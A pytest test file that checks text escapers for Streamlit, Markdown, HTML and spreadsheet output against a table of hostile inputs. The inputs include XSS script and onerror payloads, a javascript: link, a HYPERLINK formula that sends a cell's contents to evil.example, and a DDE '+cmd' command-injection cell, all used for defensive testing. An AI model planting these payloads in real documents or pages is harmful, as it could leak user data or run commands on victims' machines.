"""Every escaper (src/policybench/present/text.py), one table of hostile text through each output:
Streamlit Markdown, Streamlit widget labels, Markdown files, HTML and spreadsheet cells. Each
output must show the text faithfully and let none of it act: no markup, link, image, formula,
directive or bare address."""

from __future__ import annotations

import html as html_module
import re
import string
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as hs

from policybench.present import text

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)> <b>bold</b> &lt;b&gt; &amp;",
    "[x](javascript:alert(1)) ![img](http://x/y.png) [ref]: http://evil.example",
    "**bold** _it_ `code` ``more`` ~~gone~~",
    "# heading\n- list\n> quote\n1. one\n+ plus",
    ":red[colour] :material/home: :smile: :blue-badge[b]",
    "$\\frac{1}{2}$ and $$x$$",
    "| a | b |\n|---|---|",
    "http://example.com https://evil.example/track.png www.example.com a@b.co",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "1) ordered",
    "Japan–ROK “2+2” talks (2018): fine.",
]

#: Text in which every ASCII punctuation character is backslash-escaped.
INERT = re.compile(r"(?:\\[!-/:-@\[-`{-~]|[^!-/:-@\[-`{-~\\])*")
URL = re.compile(r"https?://|(?<![\\\w])www\.", re.IGNORECASE)


def unescape(escaped: str) -> str:
    return re.sub(r"\\(.)", r"\1", escaped)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)


def _streamlit(raw: str) -> None:
    out = text.streamlit_markdown(raw)
    assert INERT.fullmatch(out), out
    assert "\n" not in out and unescape(out) == text.fold(raw)


def _label(raw: str) -> None:
    out = text.widget_label(raw)
    live = re.sub(r"\\.", "", out)
    for token in ("<", "**", "`", "[", "]", ":", "$", "~", "@", "&", "#", "|", "www."):
        assert token not in live, (token, out)
    assert not re.match(r"^(\d+[.)]|[-+])", live)
    assert "\n" not in out and unescape(out) == text.fold(raw)


def _markdown_file(raw: str) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    out = text.markdown(raw)
    rendered = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(out)
    parsed = _Tags()
    parsed.feed(rendered)
    assert set(parsed.tags) <= {"p"}, (parsed.tags, out)
    assert not URL.search(out.replace("\\:\\/\\/", "")), out
    assert "\n" not in out and unescape(out) == text.fold(raw)


def _html(raw: str) -> None:
    out = text.html(raw)
    parsed = _Tags()
    parsed.feed(f'<p>{out}</p><a title="{out}"></a>')
    assert parsed.tags == ["p", "a"], out
    assert "://" not in out and html_module.unescape(out) == raw


def _cell(raw: str) -> None:
    out = text.cell(raw)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert out.removeprefix("'") == raw
    assert (out != raw) == text.is_formula_like(raw)


OUTPUTS: dict[str, Callable[[str], None]] = {
    "streamlit markdown": _streamlit,
    "widget label": _label,
    "markdown file": _markdown_file,
    "html": _html,
    "spreadsheet cell": _cell,
}


@pytest.mark.parametrize("raw", HOSTILE)
@pytest.mark.parametrize("output", list(OUTPUTS))
def test_every_output_shows_hostile_text_as_text(output: str, raw: str) -> None:
    OUTPUTS[output](raw)


@given(hs.text(alphabet=hs.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=200))
def test_streamlit_markdown_round_trips_any_text(raw: str) -> None:
    _streamlit(raw)


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("1. not a list", "1\\. not a list"),
        ("- not a list", "\\- not a list"),
        ("# not a heading", "\\# not a heading"),
        ("a|b", "a\\|b"),
        ("<b>x</b>", "\\<b\\>x\\</b\\>"),
        ("line\nbreak", "line break"),
        ("1.5 stays", "1.5 stays"),
        ("see www.x.org", "see www\\.x.org"),
    ],
)
def test_markdown_files_escape_only_what_markdown_reads(raw: str, escaped: str) -> None:
    assert text.markdown(raw) == escaped


def test_labels_keep_ordinary_punctuation_for_screen_readers() -> None:
    assert text.widget_label("Risk of Chinese backlash (cost)") == "Risk of Chinese backlash (cost)"
    assert text.widget_label("US–Japan–ROK: 2+2, e.g.") == "US–Japan–ROK\\: 2+2, e.g."
    assert text.widget_label("- a") == "\\- a" and text.widget_label("1. a") == "1\\. a"


def test_streamlit_markdown_escapes_every_ascii_punctuation_and_nothing_else() -> None:
    assert text.streamlit_markdown("Japan–ROK “2+2” talks") == "Japan–ROK “2\\+2” talks"
    assert all(text.streamlit_markdown(c) == "\\" + c for c in string.punctuation)


def test_cells_leave_numbers_alone() -> None:
    assert text.cell(-0.5) == -0.5 and text.cell(True) is True and text.cell("@x") == "'@x"


def test_fold_and_truncate_keep_text_on_one_bounded_line() -> None:
    assert text.fold("a\n\n b\tc") == "a b c"
    assert text.truncate("x" * 100, 10) == "x" * 9 + "…"
    assert text.truncate("short", 10) == "short"
